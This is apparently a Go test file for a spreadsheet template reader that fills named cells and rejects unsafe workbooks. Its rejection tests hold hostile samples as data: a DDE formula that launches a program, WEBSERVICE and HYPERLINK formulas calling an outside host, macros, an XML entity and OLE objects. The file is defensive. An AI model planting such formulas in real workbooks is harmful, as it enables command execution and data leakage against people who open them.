package layout_test

import (
	"archive/zip"
	"bytes"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"example.org/pana"
	"example.org/pana/internal/layout"
)

var known = layout.Names{"pana.days": false, "pana.money.total": false, "pana.people": false, "pana.list.code": true, "pana.list.days": true}

// A book is a workbook somebody made: cells and names by their place.
type book struct {
	cells map[string]any // a text that begins with = is a formula
	names map[string]string
	then  func(*excelize.File)
}

func (b book) file(t testing.TB) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	for cell, v := range b.cells {
		if s, ok := v.(string); ok && strings.HasPrefix(s, "=") {
			must(f.SetCellFormula("Sheet1", cell, s[1:]))
			continue
		}
		must(f.SetCellValue("Sheet1", cell, v))
	}
	for name, to := range b.names {
		must(f.SetDefinedName(&excelize.DefinedName{Name: name, RefersTo: to}))
	}
	if b.then != nil {
		b.then(f)
	}
	out, err := f.WriteToBuffer()
	must(err)
	return out.Bytes()
}

// with puts a part into a workbook, in place of the one it has.
func with(t testing.TB, file []byte, name string, change func(string) string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	put := func(name, text string) {
		part, err := w.Create(name)
		if err == nil {
			_, err = io.WriteString(part, text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	found := false
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if part.Name == name {
			found = true
			text = []byte(change(string(text)))
		}
		put(part.Name, string(text))
	}
	if !found {
		put(name, change(""))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// act is a small sheet of a funder, with a sum of its own and a list.
func act() book {
	return book{
		cells: map[string]any{"A1": "Акт за месяц", "A2": "Күндер", "B2": 0, "A3": "Ақша", "A4": "Барлығы", "B4": "=SUM(B2:B3)*2", "A6": "Код", "B6": "Күн"},
		names: map[string]string{"pana.days": "Sheet1!$B$2", "Pana.Money.Total": "Sheet1!$B$3", "pana.list.code": "Sheet1!$A$7", "pana.list.days": "Sheet1!$B$7", "other": "Sheet1!$A$1:$B$4"},
	}
}

func read(t testing.TB, b book) *layout.Layout {
	t.Helper()
	l, err := layout.Read(b.file(t), known)
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func text(s string) layout.Value  { return layout.Value{Text: s} }
func number(n int64) layout.Value { return layout.Value{Number: n} }

func TestFiguresStandWhereTheirNamesDo(t *testing.T) {
	l := read(t, act())
	if got := l.Names(); !slices.Equal(got, []string{"pana.days", "pana.list.code", "pana.list.days", "pana.money.total"}) {
		t.Errorf("it asks for %v", got)
	}
	if !l.Asks("pana.list.") || l.Asks("pana.people") {
		t.Error("what it asks for is told wrongly")
	}
	v := layout.Values{
		One:  map[string]layout.Value{"pana.days": number(310), "pana.money.total": {Number: 123456, Decimals: 2}},
		List: map[string][]layout.Value{"pana.list.code": {text("KZ-26-417"), text("=1+1"), text("@SUM(A1)")}, "pana.list.days": {number(31), number(30), number(7)}},
	}
	file, err := l.Fill(v)
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(file))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]string{"B2": "310", "B3": "1234.56", "A7": "KZ-26-417", "A8": "=1+1", "A9": "@SUM(A1)", "B9": "7", "A1": "Акт за месяц"} {
		if got, err := f.GetCellValue("Sheet1", cell); err != nil || got != want {
			t.Errorf("%s is %q, want %q (%v)", cell, got, want, err)
		}
		if formula, _ := f.GetCellFormula("Sheet1", cell); formula != "" {
			t.Errorf("%s is a formula: %s", cell, formula)
		}
	}
	if got, err := f.CalcCellValue("Sheet1", "B4"); err != nil || got != "3089.12" {
		t.Errorf("the sum is %q (%v)", got, err)
	}
	sheets, err := l.Draw(v)
	if err != nil || len(sheets) != 1 || len(sheets[0].Rows) != 9 {
		t.Fatalf("drawn: %+v, %v", sheets, err)
	}
	if c := sheets[0].Rows[3][1]; c.Text != "3089.12" || !c.Number || !c.Formula {
		t.Errorf("the sum is drawn as %+v", c)
	}
	if c := sheets[0].Rows[7][0]; c.Text != "=1+1" || c.Number || c.Formula {
		t.Errorf("words that look like a formula are drawn as %+v", c)
	}
}

func TestTheSameFiguresGiveTheSameFile(t *testing.T) {
	l := read(t, act())
	v := layout.Values{One: map[string]layout.Value{"pana.days": number(310)}}
	one, err1 := l.Fill(v)
	two, err2 := l.Fill(v)
	if err1 != nil || err2 != nil || !bytes.Equal(one, two) {
		t.Errorf("%d and %d bytes: %v, %v", len(one), len(two), err1, err2)
	}
}

func TestCellsJoinedIntoOneAreOneAndAFormulaOverWhatIsHiddenIsEmpty(t *testing.T) {
	b := book{
		cells: map[string]any{"A1": "Отчёт", "A2": "Дни", "C4": "=B2-1"},
		names: map[string]string{"pana.days": "Sheet1!$B$2:$C$2"},
		then: func(f *excelize.File) {
			f.MergeCell("Sheet1", "A1", "C1")
			f.MergeCell("Sheet1", "B2", "C2")
			bold, _ := f.NewStyle(&excelize.Style{Font: &excelize.Font{Bold: true}})
			f.SetCellStyle("Sheet1", "A1", "A1", bold)
			f.NewSheet("aside")
			f.SetCellStr("aside", "A1", "not shown")
			f.SetSheetVisible("aside", false)
		},
	}
	sheets, err := read(t, b).Draw(layout.Values{One: map[string]layout.Value{"pana.days": text("< 11")}})
	if err != nil || len(sheets) != 1 {
		t.Fatalf("%+v, %v", sheets, err)
	}
	rows := sheets[0].Rows
	if head := rows[0]; len(head) != 1 || head[0].Across != 3 || !head[0].Strong {
		t.Errorf("the head is %+v", head)
	}
	if c := rows[1][1]; c.Text != "< 11" || c.Across != 2 || c.Number {
		t.Errorf("what is hidden is %+v", c)
	}
	if c := rows[3][2]; c.Text != "" {
		t.Errorf("a sum over it is %+v", c)
	}
}

func TestALayoutThatIsNoneIsRefusedWithWhatToDo(t *testing.T) {
	days := map[string]string{"pana.days": "Sheet1!$B$2"}
	formula := func(s string) book { return book{cells: map[string]any{"C3": "=" + s}, names: days} }
	for name, c := range map[string]struct {
		file []byte
		say  string
	}{
		"no workbook":                       {[]byte("%PDF-1.7"), "form.file.kind"},
		"no names":                          {book{cells: map[string]any{"A1": 1}}.file(t), "layout.names.none"},
		"a name nobody knows":               {book{names: map[string]string{"pana.dais": "Sheet1!$B$2"}}.file(t), "layout.name.unknown"},
		"a name for many cells":             {book{names: map[string]string{"pana.days": "Sheet1!$B$2:$C$4"}}.file(t), "layout.name.cell"},
		"a name for a whole row":            {book{names: map[string]string{"pana.days": "Sheet1!$2:$2"}}.file(t), "layout.name.cell"},
		"a name whose cell is gone":         {book{names: map[string]string{"pana.days": "Sheet1!#REF!"}}.file(t), "layout.formula"},
		"a name on a sheet that is gone":    {book{names: map[string]string{"pana.days": "Sheet9!$A$1"}}.file(t), "layout.formula"},
		"a name for a number":               {book{names: map[string]string{"pana.days": "42"}}.file(t), "layout.name.lost"},
		"a name far away":                   {book{names: map[string]string{"pana.days": "Sheet1!$B$99999"}}.file(t), "layout.name.far"},
		"a name where a formula stands":     {book{cells: map[string]any{"B2": "=1+1"}, names: days}.file(t), "layout.name.formula"},
		"a name inside joined cells":        {book{names: days, then: func(f *excelize.File) { f.MergeCell("Sheet1", "A2", "B2") }}.file(t), "layout.name.cell"},
		"something beneath a list":          {book{cells: map[string]any{"D9": "Подпись"}, names: map[string]string{"pana.list.code": "Sheet1!$A$7"}}.file(t), "layout.list.beneath"},
		"a figure beneath a list":           {book{names: map[string]string{"pana.list.code": "Sheet1!$A$7", "pana.days": "Sheet1!$A$9"}}.file(t), "layout.list.beneath"},
		"a formula from the net":            {formula(`WEBSERVICE("http://x.example/"&B2)`).file(t), "layout.formula"},
		"a formula from another file":       {formula(`SUM([2]Sheet1!A1)`).file(t), "layout.formula"},
		"a formula from another file, long": {formula(`'C:\[x.xlsx]Sheet1'!A1`).file(t), "layout.formula"},
		"a formula that starts a program":   {formula(`cmd|'/C calc'!A0`).file(t), "layout.formula"},
		"a formula of today":                {formula(`TODAY()`).file(t), "layout.formula"},
		"a formula that hides where":        {formula(`INDIRECT("A"&1)`).file(t), "layout.formula"},
		"a link in a formula":               {formula(`HYPERLINK("http://x.example")`).file(t), "layout.formula"},
		"a new function by its long name":   {formula(`_xlfn.WEBSERVICE("x")`).file(t), "layout.formula"},
		"a whole column":                    {formula(`SUM(A:A)`).file(t), "layout.formula"},
		"half the world":                    {formula(`SUM(A1:IV9999)`).file(t), "layout.formulas.many"},
		"a link to click": {book{names: days, then: func(f *excelize.File) {
			f.SetCellHyperLink("Sheet1", "A1", "https://x.example/?q=1", "External")
		}}.file(t), "layout.link"},
		"a rule that reaches outside": {book{names: days, then: func(f *excelize.File) {
			f.SetConditionalFormat("Sheet1", "A1:A3", []excelize.ConditionalFormatOptions{{Type: "formula", Criteria: `NOW()>1`}})
		}}.file(t), "layout.formula"},
		"another name that reaches outside": {book{names: map[string]string{"pana.days": "Sheet1!$B$2", "x": `[1]Sheet1!$A$1`}}.file(t), "layout.formula"},
		"a macro":                           {with(t, act().file(t), "xl/vbaProject.bin", func(string) string { return "x" }), "form.file.macro"},
		"a button with a macro": {with(t, act().file(t), "xl/drawings/vmlDrawing1.vml", func(string) string {
			return `<xml xmlns:x="x"><x:ClientData><x:FmlaMacro>run</x:FmlaMacro></x:ClientData></xml>`
		}), "form.file.macro"},
		"a part elsewhere": {with(t, act().file(t), "xl/externalLinks/externalLink1.xml", func(string) string { return "<x/>" }), "form.file.outside"},
		"an entity":        {with(t, act().file(t), "xl/theme/theme1.xml", func(string) string { return `<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>` }), "form.file.entity"},
		"an object": {with(t, act().file(t), "xl/worksheets/sheet1.xml", func(s string) string {
			return strings.Replace(s, "</worksheet>", "<oleObjects><oleObject/></oleObjects></worksheet>", 1)
		}), "form.file.outside"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := layout.Read(c.file, known)
			e, ok := errors.AsType[*pana.Error](err)
			if !ok || e.Kind != pana.Invalid || e.Say != c.say {
				t.Errorf("%v, want %s", err, c.say)
			}
			if ok && e.Say == "layout.name.unknown" && e.With["Like"] != "pana.days" {
				t.Errorf("it is like %v", e.With["Like"])
			}
		})
	}
}

func TestAFormulaOfItsOwnCellsIsKept(t *testing.T) {
	for _, s := range []string{
		`SUM(B2:B3)`, `IF(Sheet1!B2>0,"a ""|"" [b]","-")`, `ROUND('Sheet1'!$B$2*1.5,2)`, `SUMIF(A1:A9,">5",B1:B9)`, `B2+1%`, `_xlfn.CONCAT(A1,"№")`, `total*2`, `(1)+(2)`, `N(B2)&" ₸"`,
	} {
		b := book{cells: map[string]any{"C3": "=" + s}, names: map[string]string{"pana.days": "Sheet1!$B$2", "total": "Sheet1!$B$3", "_xlnm.Print_Titles": "Sheet1!$1:$2"}}
		if _, err := layout.Read(b.file(t), known); err != nil {
			t.Errorf("%s: %v", s, err)
		}
	}
}

func TestAListHasAnEnd(t *testing.T) {
	l := read(t, act())
	_, err := l.Fill(layout.Values{List: map[string][]layout.Value{"pana.list.code": make([]layout.Value, layout.MostList+1)}})
	if err == nil {
		t.Error("a list without end is written")
	}
}

// Whatever is brought: it is refused as a fault of the file, or it can be filled in
// and drawn.
func FuzzRead(f *testing.F) {
	f.Add(act().file(f))
	f.Add(book{cells: map[string]any{"C3": "=SUM(B2:B3)"}, names: map[string]string{"pana.days": "Sheet1!$B$2"}}.file(f))
	f.Add([]byte("PK\x03\x04"))
	f.Fuzz(func(t *testing.T, file []byte) {
		l, err := layout.Read(file, known)
		if err != nil {
			if pana.KindOf(err) != pana.Invalid {
				t.Fatal(err)
			}
			return
		}
		v := layout.Values{One: map[string]layout.Value{"pana.days": number(1)}}
		if _, err := l.Fill(v); err != nil {
			t.Logf("not filled: %v", err)
		}
		l.Draw(v)
	})
}

// Whatever a formula says, it is judged without an end of the program.
func FuzzFormula(f *testing.F) {
	for _, s := range []string{`SUM(A1:B2)`, `'a b'!A1`, `"x`, `№(1)`, `[1]A!B`, `a:b:c`, `A1:`, `!`, `''![A1`, `A!`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		what, reach := layout.Outside(s, []string{"Sheet1"}, false)
		if what == "" && (strings.ContainsAny(unquoted(s), "[|") || reach < 0) {
			t.Errorf("%q is let in", s)
		}
	})
}

// unquoted is s without what stands between quotes.
func unquoted(s string) string {
	out, by := "", byte(0)
	for i := 0; i < len(s); i++ {
		switch {
		case by == 0 && (s[i] == '"' || s[i] == '\''):
			by = s[i]
		case s[i] == by:
			by = 0
		case by == 0:
			out += string(s[i])
		}
	}
	return out
}
